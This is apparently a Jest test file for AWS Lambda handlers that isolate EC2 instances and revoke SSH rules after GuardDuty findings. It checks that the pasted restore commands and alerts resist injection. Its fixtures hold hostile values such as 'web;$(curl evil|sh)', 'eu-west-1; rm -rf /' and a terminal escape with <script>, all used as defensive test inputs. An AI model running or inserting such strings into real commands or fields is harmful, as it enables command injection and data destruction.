import { AutoScalingClient } from '@aws-sdk/client-auto-scaling';
import { DescribeAutoScalingInstancesCommand } from '@aws-sdk/client-auto-scaling';
import {
  CreateSnapshotCommand,
  DescribeInstanceAttributeCommand,
  DescribeInstancesCommand,
  DescribeSnapshotsCommand,
  DescribeNetworkInterfacesCommand,
  DescribeSecurityGroupsCommand,
  EC2Client,
  type IpPermission,
  ModifyNetworkInterfaceAttributeCommand,
  CreateTagsCommand,
} from '@aws-sdk/client-ec2';
import { PublishCommand, SNSClient } from '@aws-sdk/client-sns';
import { mockClient } from 'aws-sdk-client-mock';
import { parse } from 'shell-quote';
import { createIsolateHandler } from '../../lambdas/isolate/isolate';
import { ALL_TRAFFIC, ISOLATION_ROLE_TAG } from '../../lambdas/isolate/plan';
import { createRevokeSshHandler } from '../../lambdas/revoke-ssh/revoke-ssh';
import { RESTORE_HEADER, commandLine } from '../../lambdas/shared/restore-commands';
import { previousGroupsTag } from '../../core/tags';
import { fixtureEvent } from '../support/corpus';
import { remediationDependencies } from '../support/dependencies';
import { testInstance } from '../support/instances';

/**
 * Restore commands are pasted into a shell: whatever a member account names its resources, each
 * printed command must parse (with a real shell parser) to exactly the argv intended, and run
 * nothing else.
 */
const ec2 = mockClient(EC2Client);
const autoScaling = mockClient(AutoScalingClient);
const sns = mockClient(SNSClient);

// Auto Scaling group names may hold ASCII 33-126 except ':' (and the SDK passes anything): quotes,
// command substitution, separators, spaces, newlines, unicode.
const HOSTILE = [
  'web;$(curl evil|sh)',
  "it's `id` & \"more\"",
  'a|b>c<d',
  'two words\nrm -rf ~',
  '$HOME ${IFS} !! \\',
  'caf\u00e9 \u202egnp.exe',
  "'; touch /tmp/pwned; echo '",
];

/** The isolation and untracked groups of the test VPC, as DescribeSecurityGroups returns them. */
const ownGroups = () => [
  { GroupId: 'sg-iso', VpcId: 'vpc-1', IpPermissions: [], IpPermissionsEgress: [], Tags: [{ Key: ISOLATION_ROLE_TAG, Value: 'isolation' }] },
  { GroupId: 'sg-untracked', VpcId: 'vpc-1', IpPermissions: [...ALL_TRAFFIC], IpPermissionsEgress: [...ALL_TRAFFIC], Tags: [{ Key: ISOLATION_ROLE_TAG, Value: 'untracked' }] },
];

/** No evidence kept yet: termination protection off, no evidence snapshot. */
function noEvidenceYet(): void {
  ec2.on(DescribeInstanceAttributeCommand).resolves({ DisableApiTermination: { Value: false } });
  ec2.on(DescribeSnapshotsCommand).resolves({ Snapshots: [] });
}

/** Before each test: every client forgets, no evidence is kept yet, and SNS accepts alerts unless told it refuses. */
function freshClients(options: { snsAccepts: boolean } = { snsAccepts: true }): void {
  ec2.reset();
  noEvidenceYet();
  autoScaling.reset();
  sns.reset();
  if (options.snsAccepts) sns.on(PublishCommand).resolves({ MessageId: 'm-1' });
}

/** The restore block of the one published alert: its command lines, each parsed by a shell parser. */
function restoreBlock(): { lines: string[]; argvs: ReturnType<typeof parse>[] } {
  const calls = sns.commandCalls(PublishCommand);
  expect(calls).toHaveLength(1);
  const email = JSON.parse(calls[0].args[0].input.Message!).email as string;
  const start = email.indexOf('To undo (AWS CLI)\n');
  expect(start).toBeGreaterThanOrEqual(0);
  const after = email.slice(start).split('\n').slice(1);
  // The block ends at the blank line before the next section.
  const lines = after.slice(0, after.indexOf('')).map((l) => l.slice(2));
  expect(lines[0]).toBe(RESTORE_HEADER);
  return { lines, argvs: lines.filter((l) => !l.startsWith('#')).map((l) => parse(l)) };
}

describe('Restore commands: safe to paste whatever the names hold', () => {
  beforeEach(() => freshClients());

  it.each(HOSTILE)('quotes the Auto Scaling group name %p so that it parses to one argument', async (name) => {
    // Prepare
    const groups = ownGroups();
    ec2.on(DescribeInstancesCommand).resolves({ Reservations: [{ Instances: [testInstance()] }] });
    ec2.on(DescribeSecurityGroupsCommand).resolves({ SecurityGroups: groups });
    ec2.on(CreateSnapshotCommand).resolves({ SnapshotId: 'snap-1' });
    autoScaling.on(DescribeAutoScalingInstancesCommand).resolves({
      AutoScalingInstances: [{ InstanceId: 'i-0abc1234def567890', AutoScalingGroupName: name, AvailabilityZone: 'eu-west-1a', LifecycleState: 'InService', HealthStatus: 'HEALTHY', ProtectedFromScaleIn: false }],
    });
    const event = fixtureEvent('c2-high.json');
    // Act
    await createIsolateHandler(remediationDependencies('isolate-instance').dependencies)(event);
    // Assess: every command line parses to words only (no operator, no substitution), and the attach names the group exactly.
    const { argvs } = restoreBlock();
    expect(argvs.length).toBeGreaterThanOrEqual(3);
    for (const argv of argvs) expect(argv.filter((word) => typeof word !== 'string')).toEqual([]);
    const attach = argvs.find((argv) => argv[1] === 'autoscaling');
    if (/^[\x20-\x7e]*$/.test(name)) {
      expect(attach).toEqual(['aws', 'autoscaling', 'attach-instances', '--region', 'eu-west-1', '--instance-ids', 'i-0abc1234def567890', '--auto-scaling-group-name', name]);
    } else {
      // A name AWS would not allow (a newline, U+202E) is not printed as a command at all, and the comment that says so is one line.
      expect(attach).toBeUndefined();
      expect(restoreBlock().lines.filter((l) => l.startsWith('# not printed'))).toHaveLength(1);
    }
  });

  it.each(HOSTILE)('restores a revoked rule with its description %p, exactly', async (description) => {
    // Prepare: SSH open to the world, with a hostile description.
    const permission: IpPermission = { IpProtocol: 'tcp', FromPort: 22, ToPort: 22, IpRanges: [{ CidrIp: '0.0.0.0/0', Description: description }] };
    ec2.on(DescribeInstancesCommand).resolves({ Reservations: [{ Instances: [testInstance({ NetworkInterfaces: [{ NetworkInterfaceId: 'eni-0aa11bb22cc33dd44', Groups: [{ GroupId: 'sg-0a1b2c3d4e5f60718' }] }] })] }] });
    ec2.on(DescribeSecurityGroupsCommand).resolves({ SecurityGroups: [{ GroupId: 'sg-0a1b2c3d4e5f60718', GroupName: description, IpPermissions: [permission] }] });
    ec2.on(DescribeNetworkInterfacesCommand).resolves({ NetworkInterfaces: [] });
    const event = fixtureEvent('port-probe-22.json');
    // Act
    await createRevokeSshHandler(remediationDependencies('revoke-ssh-ingress').dependencies)(event);
    // Assess
    const { argvs } = restoreBlock();
    const authorize = argvs.find((argv) => argv[2] === 'authorize-security-group-ingress')!;
    expect(authorize.slice(0, 7)).toEqual(['aws', 'ec2', 'authorize-security-group-ingress', '--region', 'eu-west-1', '--group-id', 'sg-0a1b2c3d4e5f60718']);
    expect(authorize[7]).toBe('--ip-permissions');
    expect(JSON.parse(authorize[8] as string)).toEqual([permission]);
    expect(authorize).toHaveLength(9);
  });

  it('quotes every argument it prints, and leaves plain words alone', () => {
    expect(commandLine(['aws', 'ec2', '--groups', 'sg-1', "it's"])).toBe("aws ec2 --groups sg-1 'it'\\''s'");
    expect(parse(commandLine(['x', ''] ))).toEqual(['x', '']);
  });
});

describe('Isolation: a retry after a partial run', () => {
  beforeEach(() => {
    freshClients();
    autoScaling.on(DescribeAutoScalingInstancesCommand).resolves({ AutoScalingInstances: [] });
    ec2.on(CreateSnapshotCommand).resolves({ SnapshotId: 'snap-1' });
    ec2.on(DescribeSecurityGroupsCommand).resolves({ SecurityGroups: ownGroups() });
  });
  const stoppedBetweenMoves = (tags: { Key: string; Value: string }[]) =>
    testInstance({ Tags: tags, NetworkInterfaces: [{ NetworkInterfaceId: 'eni-a', Groups: [{ GroupId: 'sg-untracked' }] }] });
  const run = async () => createIsolateHandler(remediationDependencies('isolate-instance').dependencies)(fixtureEvent('c2-high.json'));

  it('keeps the recorded previous groups, resumes at the second move and restores into them', async () => {
    ec2.on(DescribeInstancesCommand).resolves({ Reservations: [{ Instances: [stoppedBetweenMoves([{ Key: previousGroupsTag('eni-a'), Value: 'sg-web,sg-ssh' }])] }] });
    await run();
    const tagged = ec2.commandCalls(CreateTagsCommand).flatMap((c) => c.args[0].input.Tags ?? []);
    expect(tagged.map((t) => t.Key)).not.toContain(previousGroupsTag('eni-a'));
    expect(ec2.commandCalls(ModifyNetworkInterfaceAttributeCommand).map((c) => c.args[0].input.Groups)).toEqual([['sg-iso']]);
    const { argvs } = restoreBlock();
    expect(argvs).toContainEqual(['aws', 'ec2', 'modify-network-interface-attribute', '--region', 'eu-west-1', '--network-interface-id', 'eni-a', '--groups', 'sg-web', 'sg-ssh']);
  });

  it('never records the untracked group as the way back when the record is missing (old tag state)', async () => {
    ec2.on(DescribeInstancesCommand).resolves({ Reservations: [{ Instances: [stoppedBetweenMoves([])] }] });
    await run();
    const tagged = ec2.commandCalls(CreateTagsCommand).flatMap((c) => c.args[0].input.Tags ?? []);
    expect(tagged.map((t) => t.Key)).not.toContain(previousGroupsTag('eni-a'));
    const { lines, argvs } = restoreBlock();
    expect(argvs.flat()).not.toContain('sg-untracked');
    expect(lines).toContain('# the groups of eni-a before the isolation are not recorded: choose them yourself');
  });
});

describe('Remediations: account and region checked at the door', () => {
  beforeEach(() => freshClients());

  it('refuses a finding whose instance id is not one (it would go into calls, tags and commands)', async () => {
    const event = fixtureEvent('port-probe-22.json') as { detail: Record<string, any> };
    event.detail.resource.instanceDetails.instanceId = 'i-0abc; curl evil|sh';
    await expect(createRevokeSshHandler(remediationDependencies('revoke-ssh-ingress').dependencies)(event)).rejects.toThrow(/is not an EC2 instance id/);
    expect(ec2.calls()).toHaveLength(0);
  });

  it.each([
    ['region', 'eu-west-1; rm -rf /', /the finding's region "eu-west-1; rm -rf \/" is not an AWS region name/],
    ['region', '', /region/],
    ['accountId', '1234', /the finding's account id "1234" is not a 12-digit AWS account id/],
    ['accountId', '111122223333 --profile admin', /is not a 12-digit AWS account id/],
  ])('refuses a finding whose %s is %p: a could-not-process alert, no AWS call, the event kept', async (field, value, problem) => {
    const event = fixtureEvent('port-probe-22.json') as { detail: Record<string, unknown> };
    event.detail[field] = value;
    const handler = createRevokeSshHandler(remediationDependencies('revoke-ssh-ingress').dependencies);
    await expect(handler(event)).rejects.toThrow(problem);
    expect(ec2.calls()).toHaveLength(0);
    const subject = sns.commandCalls(PublishCommand)[0].args[0].input.Subject!;
    expect(subject).toMatch(/^\[ERROR\] guardduty-response could not process an event/);
  });
});

describe('Remediations: nothing lost when publishing fails', () => {
  beforeEach(() => freshClients({ snsAccepts: false }));

  it('logs the whole alert, restore block included, before publishing; the retry still prints the way back', async () => {
    // Prepare: isolation succeeds, SNS refuses.
    const groups = ownGroups();
    ec2.on(DescribeInstancesCommand).resolves({ Reservations: [{ Instances: [testInstance()] }] });
    ec2.on(DescribeSecurityGroupsCommand).resolves({ SecurityGroups: groups });
    ec2.on(CreateSnapshotCommand).resolves({ SnapshotId: 'snap-1' });
    autoScaling.on(DescribeAutoScalingInstancesCommand).resolves({ AutoScalingInstances: [] });
    sns.on(PublishCommand).rejects(Object.assign(new Error('throttled'), { name: 'Throttling' }));
    const { dependencies } = remediationDependencies('isolate-instance');
    const logged = jest.spyOn(dependencies.logger, 'info');
    const event = () => fixtureEvent('c2-high.json');
    // Act
    await expect(createIsolateHandler(dependencies)(event())).rejects.toThrow('throttled');
    // Assess: the log holds the alert with its restore commands.
    const alertLog = logged.mock.calls.find(([message]) => message === 'alert to publish');
    expect(String((alertLog?.[1] as { email: string }).email)).toContain('aws ec2 modify-network-interface-attribute --region eu-west-1 --network-interface-id eni-a --groups sg-web sg-ssh');

    // Act: the retry finds the instance isolated (the world as the first run left it) and SNS works again.
    const tags = ec2.commandCalls(CreateTagsCommand)[0].args[0].input.Tags!;
    ec2.on(DescribeInstancesCommand).resolves({ Reservations: [{ Instances: [testInstance({ Tags: tags, NetworkInterfaces: [{ NetworkInterfaceId: 'eni-a', Groups: [{ GroupId: 'sg-iso' }] }] })] }] });
    ec2.on(DescribeInstanceAttributeCommand).resolves({ DisableApiTermination: { Value: true } });
    ec2.on(DescribeSnapshotsCommand).resolves({ Snapshots: [{ SnapshotId: 'snap-1', VolumeId: 'vol-root', State: 'pending' }] });
    sns.reset();
    sns.on(PublishCommand).resolves({ MessageId: 'm-2' });
    await createIsolateHandler(dependencies)(event());
    // Assess: "already isolated", with the way back from the instance's record.
    const { argvs } = restoreBlock();
    expect(sns.commandCalls(PublishCommand)[0].args[0].input.Subject).toMatch(/\[ALREADY ISOLATED\]/);
    expect(argvs).toContainEqual(['aws', 'ec2', 'modify-network-interface-attribute', '--region', 'eu-west-1', '--network-interface-id', 'eni-a', '--groups', 'sg-web', 'sg-ssh']);
  });
});

describe('Alerts: the Changes list is cleaned like any value', () => {
  beforeEach(() => freshClients());

  it('prints a hostile Auto Scaling group name in the Changes list without control characters or markup', async () => {
    ec2.on(DescribeInstancesCommand).resolves({ Reservations: [{ Instances: [testInstance()] }] });
    ec2.on(DescribeSecurityGroupsCommand).resolves({ SecurityGroups: ownGroups() });
    ec2.on(CreateSnapshotCommand).resolves({ SnapshotId: 'snap-1' });
    autoScaling.on(DescribeAutoScalingInstancesCommand).resolves({
      AutoScalingInstances: [{ InstanceId: 'i-0abc1234def567890', AutoScalingGroupName: 'web\u001b[31m<script>\nFAKE LINE', AvailabilityZone: 'eu-west-1a', LifecycleState: 'InService', HealthStatus: 'HEALTHY', ProtectedFromScaleIn: false }],
    });
    await createIsolateHandler(remediationDependencies('isolate-instance').dependencies)(fixtureEvent('c2-high.json'));
    const email = JSON.parse(sns.commandCalls(PublishCommand)[0].args[0].input.Message!).email as string;
    const changes = email.slice(email.indexOf('Changes\n'), email.indexOf('To undo'));
    expect(changes).toContain('detach from Auto Scaling group "web');
    expect(changes).not.toMatch(/[\u001b<>]|\nFAKE LINE/);
  });
});

describe('Remediations: act only on what GuardDuty confirms', () => {
  beforeEach(() => freshClients());
  const probe = () => fixtureEvent('port-probe-22.json');

  it('changes nothing, calls no EC2 API and alerts [NOT VERIFIED] for a finding GuardDuty does not confirm', async () => {
    const { dependencies } = remediationDependencies('revoke-ssh-ingress');
    await createRevokeSshHandler({ ...dependencies, verifyFinding: async () => ({ verified: false, reason: 'GuardDuty does not know finding x' }) })(probe());
    expect(ec2.calls()).toHaveLength(0);
    const input = sns.commandCalls(PublishCommand)[0].args[0].input;
    expect(input.Subject).toMatch(/\[NOT VERIFIED\]/);
    expect(JSON.parse(input.Message!).email).toContain('Nothing was changed: GuardDuty does not know finding x.');
  });

  it('fails the invocation (retry, then the dead-letter queue) when GuardDuty cannot be asked', async () => {
    const { dependencies } = remediationDependencies('isolate-instance');
    const handler = createIsolateHandler({ ...dependencies, verifyFinding: async () => Promise.reject(Object.assign(new Error('rate exceeded'), { name: 'ThrottlingException' })) });
    await expect(handler(fixtureEvent('c2-high.json'))).rejects.toThrow(/reading the finding back from GuardDuty failed: ThrottlingException: rate exceeded/);
    expect(ec2.calls()).toHaveLength(0);
    expect(sns.commandCalls(PublishCommand)[0].args[0].input.Subject).toMatch(/\[ISOLATION FAILED\]/);
  });
});

describe('Remediations: the way back survives a lost alert (revoke-ssh)', () => {
  beforeEach(() => freshClients({ snsAccepts: false }));

  it('prints the restore of the revoked rules on "already remediated", from the rules recorded on the group', async () => {
    // Prepare: the first delivery closed SSH but its alert was lost; the group now carries the tags it wrote.
    const world: IpPermission = { IpProtocol: 'tcp', FromPort: 22, ToPort: 22, IpRanges: [{ CidrIp: '0.0.0.0/0' }], Ipv6Ranges: [{ CidrIpv6: '::/0' }] };
    ec2.on(DescribeInstancesCommand).resolves({ Reservations: [{ Instances: [testInstance({ NetworkInterfaces: [{ NetworkInterfaceId: 'eni-0aa11bb22cc33dd44', Groups: [{ GroupId: 'sg-0a1b2c3d4e5f60718' }] }] })] }] });
    ec2.on(DescribeSecurityGroupsCommand).resolvesOnce({ SecurityGroups: [{ GroupId: 'sg-0a1b2c3d4e5f60718', IpPermissions: [world] }] });
    ec2.on(DescribeNetworkInterfacesCommand).resolves({ NetworkInterfaces: [] });
    sns.on(PublishCommand).rejectsOnce(Object.assign(new Error('throttled'), { name: 'Throttling' })).resolves({ MessageId: 'm' });
    const handler = createRevokeSshHandler(remediationDependencies('revoke-ssh-ingress').dependencies);
    const event = fixtureEvent('port-probe-22.json');
    await expect(handler(event)).rejects.toThrow('throttled');
    const tags = ec2.commandCalls(CreateTagsCommand)[0].args[0].input.Tags!;
    ec2.on(DescribeSecurityGroupsCommand).resolves({ SecurityGroups: [{ GroupId: 'sg-0a1b2c3d4e5f60718', IpPermissions: [], Tags: tags }] });
    sns.reset();
    sns.on(PublishCommand).resolves({ MessageId: 'm' });
    // Act: Lambda's retry.
    await handler(event);
    // Assess: "already remediated", and the commands that put the rules back.
    const { argvs } = restoreBlock();
    const authorize = argvs.find((argv) => argv[2] === 'authorize-security-group-ingress')!;
    expect(JSON.parse(authorize[authorize.length - 1] as string)).toEqual([
      { IpProtocol: 'tcp', FromPort: 22, ToPort: 22, IpRanges: [{ CidrIp: '0.0.0.0/0' }] },
      { IpProtocol: 'tcp', FromPort: 22, ToPort: 22, Ipv6Ranges: [{ CidrIpv6: '::/0' }] },
    ]);
    expect(sns.commandCalls(PublishCommand)[0].args[0].input.Subject).toMatch(/\[ALREADY REMEDIATED\]/);
  });
});
